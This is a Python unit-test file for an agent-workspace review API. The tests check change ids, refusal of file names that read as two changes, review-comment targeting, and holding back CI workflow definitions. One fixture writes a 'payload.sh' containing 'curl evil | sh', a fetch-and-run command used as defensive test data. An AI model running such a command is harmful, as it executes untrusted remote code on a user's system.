"""A name in the API's review means one change (issue 44, finding 1): each listed change carries an id that an
apply's ``ids`` select exactly, ``paths`` keep working, and a path or a comment target that reads as two changes
is refused naming both, with nothing written or sent. CI definitions are marked and held back there too."""

from __future__ import annotations

import os

from controller.wire.changeset import change_id
from tests.unit.server.test_api_workspace import DONE, Setup, setup, snapshot

__all__ = ["setup"]  # the fixture, shared with the workspace routes' tests

FILE = "notes" + os.fsdecode(b"\xff")
DIRECTORY = "notes\\xff"


def _twins(setup: Setup) -> tuple[str, os.PathLike[str]]:
    repo = setup.repo()
    sid = setup.session(repo, [*DONE, *DONE])
    setup.api.wait_for(sid, lambda s: s["status"] == "idle")
    (setup.upper(sid) / os.fsencode(FILE).decode("utf-8", "surrogateescape")).write_text("harmless\n")
    setup.agent_writes(sid, DIRECTORY + "/payload.sh", "curl evil | sh\n")
    return sid, repo


def test_each_change_has_an_id_an_apply_selects_exactly_and_a_name_reading_as_two_is_refused(setup: Setup) -> None:
    sid, repo = _twins(setup)
    listed = setup.api.http.get(f"/v1/sessions/{sid}/changes").json()
    by_path = {c["path"]: c for c in listed}
    assert set(by_path) == {"notes\\xff", "notes\\\\xff", "notes\\\\xff/payload.sh"}  # printed: none alike
    assert by_path["notes\\xff"]["id"] == change_id(FILE) and by_path["notes\\\\xff"]["id"] == change_id(DIRECTORY)
    before = snapshot(repo)
    for body in ({"paths": ["notes\\xff"]}, {"force": ["notes\\xff"]}):
        refused = setup.api.http.post(f"/v1/sessions/{sid}/apply", json=body)
        assert refused.status_code == 422, refused.text
        assert change_id(FILE) in refused.text and change_id(DIRECTORY) in refused.text
    assert snapshot(repo) == before
    unknown = setup.api.http.post(f"/v1/sessions/{sid}/apply", json={"ids": ["0" * 32]})
    assert unknown.status_code == 404 and snapshot(repo) == before
    done = setup.api.http.post(f"/v1/sessions/{sid}/apply", json={"ids": [by_path["notes\\xff"]["id"]]})
    assert done.status_code == 200, done.text
    assert done.json()["applied"] == ["notes\\xff"]
    assert (repo / os.fsencode(FILE).decode("utf-8", "surrogateescape")).read_text() == "harmless\n"
    assert not (repo / DIRECTORY).exists()
    by_name = setup.api.http.post(f"/v1/sessions/{sid}/apply", json={"paths": ["notes\\\\xff"]})  # printed, alone
    assert by_name.status_code == 200 and (repo / DIRECTORY / "payload.sh").exists()


def test_a_review_comment_on_a_name_reading_as_two_changes_is_refused_and_one_by_id_quotes_that_change(
    setup: Setup,
) -> None:
    sid, _ = _twins(setup)
    (setup.upper(sid) / DIRECTORY / "payload.sh").unlink()
    (setup.upper(sid) / DIRECTORY).rmdir()
    setup.agent_writes(sid, DIRECTORY, "a file named as the other prints\n")
    route = f"/v1/sessions/{sid}/comments"
    refused = setup.api.http.post(route, json={"comments": [{"path": "notes\\xff", "text": "which?"}]})
    assert refused.status_code == 422 and change_id(FILE) in refused.text, refused.text
    unique = setup.api.http.post(route, json={"comments": [{"path": "notes\\\\xff", "text": "?", "line": 9}]})
    assert unique.status_code == 422 and "Line 9" in unique.text, "the printed name alone means the one file"
    comment = {"path": "notes\\xff", "id": change_id(FILE), "line": 1, "text": "This one."}  # as the viewer sends
    sent = setup.api.http.post(route, json={"comments": [comment]})
    assert sent.status_code == 202, sent.text
    setup.api.wait_for(sid, lambda s: s["status"] == "idle" and s["steps"] == 2)
    (follow,) = [e["text"] for e in setup.api.events(sid) if e["type"] == "user_message"]
    assert "+harmless" in follow and "a file named as the other prints" not in follow


def test_a_ci_definition_is_listed_held_back_with_why_and_applied_only_when_forced(setup: Setup) -> None:
    repo = setup.repo()
    sid = setup.session(repo)
    setup.api.wait_for(sid, lambda s: s["status"] == "idle")
    setup.agent_writes(sid, ".github/workflows/ci.yml", "on: push\n")
    setup.agent_writes(sid, "notes.txt", "ok\n")
    listed = {c["path"]: c for c in setup.api.http.get(f"/v1/sessions/{sid}/changes").json()}
    workflow = listed[".github/workflows/ci.yml"]
    assert workflow["disposition"] == "trusted" and "a CI definition" in workflow["reason"]
    plain = setup.api.http.post(f"/v1/sessions/{sid}/apply", json={})
    assert plain.status_code == 200 and (repo / "notes.txt").exists()
    assert not (repo / ".github/workflows").exists()
    name = ".github/workflows/ci.yml"
    forced = setup.api.http.post(f"/v1/sessions/{sid}/apply", json={"paths": [name], "force": [name]})
    assert forced.status_code == 200, forced.text
    assert (repo / name).read_text() == "on: push\n"
